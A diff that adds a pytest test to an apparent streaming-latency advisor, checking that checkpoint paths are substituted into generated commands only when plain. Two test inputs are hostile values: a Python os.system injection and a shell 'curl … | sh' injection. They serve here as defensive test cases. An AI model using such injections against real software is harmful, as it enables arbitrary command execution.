@@ -48,6 +48,23 @@ def test_a_setting_that_cannot_be_computed_says_why() -> None:
     assert setting("{advised_state_partitions}", window([BATCH], task_slots=4)) == "4"
 
 
+@pytest.mark.parametrize(
+    ("path", "call", "command"),
+    [
+        ("s3a://lake/checkpoints/orders", "s3a://lake/checkpoints/orders", "s3a://lake/checkpoints/orders"),
+        ('/x"); import os; os.system("id', "<checkpoint_path>", "PATH"),
+        ("/x; curl example.org | sh", "<checkpoint_path>", "PATH"),
+        (None, "<checkpoint_path>", "PATH"),
+    ],
+)
+def test_a_command_names_the_checkpoint_where_its_path_is_known_and_plain(
+    path: str | None, call: str, command: str
+) -> None:
+    known = window([BATCH], **({"checkpoint_path": path} if path else {}))
+    assert setting('repartition("{checkpoint_path}", 2)', known) == f'repartition("{call}", 2)'
+    assert sentence("latency-advisor checkpoint {checkpoint_path}", known) == f"latency-advisor checkpoint {command}"
+
+
 def test_a_trigger_is_set_in_words(catalogue: Catalogue) -> None:
     known = KNOWN | {"source": "kafka", "latency_target_ms": 20}
     finding = judged(catalogue, [BATCH] * 60, "TR004", **known)
